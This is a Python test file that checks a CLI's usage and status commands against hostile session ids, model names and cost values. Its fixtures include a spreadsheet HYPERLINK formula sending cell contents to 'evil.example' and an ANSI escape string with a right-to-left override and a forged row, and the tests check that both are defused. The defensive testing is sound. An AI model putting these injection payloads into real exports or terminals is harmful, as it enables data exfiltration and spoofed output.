"""``usage`` and ``status`` on hostile names and odd rows (issue 12, adversarial).

A client chooses its session id (``-`` and ``@`` allowed first) and, after
``<provider>/``, any model name; an upstream chose the cost it reported. The CSV must
not carry a spreadsheet formula, the terminal must not get a raw escape, money must stay
exact and a bound out of a datetime's range must not become an internal error.
"""

import csv
import io
import json
from datetime import UTC, datetime
from pathlib import Path

import pytest
from sessionwarden.actors.messages import new_event
from sessionwarden.cmd.cli.listing import csv_cell
from sessionwarden.cmd.cli.main import main
from sessionwarden.domain.session import session_stream
from sessionwarden.events import CallAdmitted, CallCompleted, SessionStarted
from sessionwarden.store import EventLog
from sessionwarden.views.wiring import default_projections

FORMULA_MODEL = '=HYPERLINK("http://evil.example/?"&A1,"ok")'
ESCAPE_MODEL = "gpt\x1b[2J\x1b[31mevil\u202e\nforged row"
TINY = "0.000000000000000000000000001"  # 27 zeros: more digits than Decimal's default 28


class Clock:
    def __init__(self) -> None:
        self.now = datetime(2026, 11, 29, 9, 0, tzinfo=UTC)

    def __call__(self) -> datetime:
        return self.now


def _session(log: EventLog, clock: Clock, sid: str, model: str, cost: str | None,
             status: str = "actual") -> None:
    clock.now = datetime(2026, 11, 29, 9, len(sid) % 60, tzinfo=UTC)
    log.append(session_stream(sid), [
        new_event(SessionStarted(model=f"openai/{model}")),
        new_event(CallAdmitted(call_id=f"{sid}-c1", provider="openai", model=model,
                               message_count=1, estimated_tokens=10)),
        new_event(CallCompleted(
            call_id=f"{sid}-c1", status=200, latency_ms=1.0, credential="fp:aaaaaaaaaaaa",
            outcome="ok", input_tokens=10, output_tokens=2, cache_read_tokens=0,
            cache_write_tokens=0, reasoning_tokens=0, source="provider", cost=cost,
            cost_status=status)),
    ])


@pytest.fixture
def db(tmp_path: Path) -> Path:
    path = tmp_path / "events.db"
    clock = Clock()
    with EventLog(path, projections=default_projections(), clock=clock) as log:
        _session(log, clock, "-2-3", FORMULA_MODEL, "1000")
        _session(log, clock, "@SUM", "gpt-4.1", TINY)
        _session(log, clock, "esc", ESCAPE_MODEL, "0.5")
    return path


def out_of(capsys: pytest.CaptureFixture[str], *argv: str) -> str:
    assert main(list(argv)) == 0
    captured = capsys.readouterr()
    assert "Traceback" not in captured.err and "internal error" not in captured.err
    return captured.out


def test_csv_cells_that_a_spreadsheet_would_run_are_defused(
        db: Path, capsys: pytest.CaptureFixture[str]) -> None:
    rows = list(csv.reader(io.StringIO(out_of(capsys, "usage", "--db", str(db), "--csv"))))
    sessions = [r[0] for r in rows[1:]]
    assert "'-2-3" in sessions and "'@SUM" in sessions and "esc" in sessions
    rows = list(csv.reader(io.StringIO(
        out_of(capsys, "usage", "--db", str(db), "--by", "model", "--csv", "--totals"))))
    models = [r[0] for r in rows[1:]]
    assert "'" + FORMULA_MODEL in models and ESCAPE_MODEL in models  # quoted by csv
    assert not any(cell.startswith(("=", "+", "-", "@")) for r in rows for cell in r)
    # --json stays exact: the names as they were
    listed = json.loads(out_of(capsys, "usage", "--db", str(db), "--by", "model", "--json"))
    assert {r["model"] for r in listed} == {FORMULA_MODEL, "gpt-4.1", ESCAPE_MODEL}


def test_an_amount_field_keeps_its_sign_a_name_does_not() -> None:
    assert csv_cell("difference", "-0.0015") == "-0.0015"  # a number, exact
    assert csv_cell("difference", "-1+cmd") == "'-1+cmd"
    assert csv_cell("session", "-1") == "'-1"  # a session id is text, whatever it looks like
    assert csv_cell("model", "\tx") == "'\tx" and csv_cell("cost", None) == ""
    assert csv_cell("requests", 3) == 3


def test_totals_are_exact_however_many_digits(db: Path,
                                              capsys: pytest.CaptureFixture[str]) -> None:
    listed = json.loads(out_of(capsys, "usage", "--db", str(db), "--json", "--totals"))
    assert listed[-1]["total"] is True
    assert listed[-1]["cost"] == "1000.500000000000000000000000001"


def test_escapes_never_reach_the_terminal(db: Path, capsys: pytest.CaptureFixture[str],
                                          monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("COLUMNS", "400")
    for argv in (("usage", "--by", "model"), ("status",), ("status", "--session", "esc")):
        text = out_of(capsys, *argv, "--db", str(db))
        assert "\x1b" not in text and "\u202e" not in text
        assert not any(line.startswith("forged row") for line in text.splitlines())
    assert "\\x1b[2J" in out_of(capsys, "usage", "--by", "model", "--db", str(db))


def test_a_cost_that_is_not_a_number_is_unknown_never_nan(
        tmp_path: Path, capsys: pytest.CaptureFixture[str],
        monkeypatch: pytest.MonkeyPatch) -> None:
    path, clock = tmp_path / "events.db", Clock()
    with EventLog(path, projections=default_projections(), clock=clock) as log:
        for sid, cost in (("nan", "NaN"), ("inf", "Infinity"), ("junk", "12 dollars"),
                          ("huge", "9e999999"), ("huger", "9e999999"), ("tiny", "1e-999999")):
            _session(log, clock, sid, "gpt-4.1", cost)
    for argv in (("--json",), ("--json", "--since", "2026-11-29T09:00:00"),
                 ("--json", "--by", "model")):  # from the daily sums and from the calls
        listed = json.loads(out_of(capsys, "usage", "--db", str(path), *argv))
        assert {(r["cost"], r["cost_status"]) for r in listed} == {(None, "unknown")}
    for sid in ("nan", "inf", "junk"):  # the budget line counts it unknown too
        text = out_of(capsys, "status", "--db", str(path), "--session", sid)
        assert "spent unknown: 1 call of unknown cost" in text and "NaN" not in text
        shown = json.loads(out_of(capsys, "status", "--db", str(path), "--session", sid,
                                  "--json"))
        assert shown["budget"]["spent"] == "0" and shown["budget"]["unknown_calls"] == 1
    config = tmp_path / "config.toml"
    config.write_text('[[providers]]\nname = "openai"\nbase_url = "http://127.0.0.1:9/v1"\n'
                      'keys = ["env:HOSTILE_TEST_KEY"]\n')
    monkeypatch.setenv("HOSTILE_TEST_KEY", "sk-test-not-a-real-key")
    listed = json.loads(out_of(capsys, "usage", "--db", str(path), "--reprice", "--config",
                               str(config), "--json", "--totals"))
    assert all((r["cost"], r["cost_status"], r["difference"]) == (None, "unknown", None)
               for r in listed)
    assert "NaN" not in json.dumps(listed) and "Infinity" not in json.dumps(listed)


@pytest.mark.parametrize(("since", "until"), [
    ("0001-01-01T00:00:00+01:00", None), (None, "9999-12-31"), ("0001-01-01", "9999-12-31"),
    (None, "9999-12-31T23:59:59-05:00")])
def test_bounds_at_the_ends_of_time_cover_everything(
        db: Path, capsys: pytest.CaptureFixture[str], since: str | None,
        until: str | None) -> None:
    argv = ["usage", "--db", str(db), "--json"]
    argv += ["--since", since] if since else []
    argv += ["--until", until] if until else []
    assert len(json.loads(out_of(capsys, *argv))) == 3


def test_a_128_character_session_id_is_whole_in_json_and_csv_and_cut_in_the_table(
        tmp_path: Path, capsys: pytest.CaptureFixture[str],
        monkeypatch: pytest.MonkeyPatch) -> None:
    sid = "@" + "a:b.c_d-" * 15 + "z" * 7  # the longest id X-Session-Id allows
    assert len(sid) == 128
    path, clock = tmp_path / "events.db", Clock()
    with EventLog(path, projections=default_projections(), clock=clock) as log:
        _session(log, clock, sid, "gpt-4.1", "0.25")
    assert json.loads(out_of(capsys, "usage", "--db", str(path), "--json"))[0]["session"] == sid
    rows = list(csv.reader(io.StringIO(out_of(capsys, "usage", "--db", str(path), "--csv"))))
    assert rows[1][0] == "'" + sid
    monkeypatch.setenv("COLUMNS", "80")
    table = out_of(capsys, "usage", "--db", str(path))
    assert "…" in table and all(len(line) <= 80 for line in table.splitlines())
    assert "REQUESTS" in table and "COST" in table  # the numbers are never pushed out
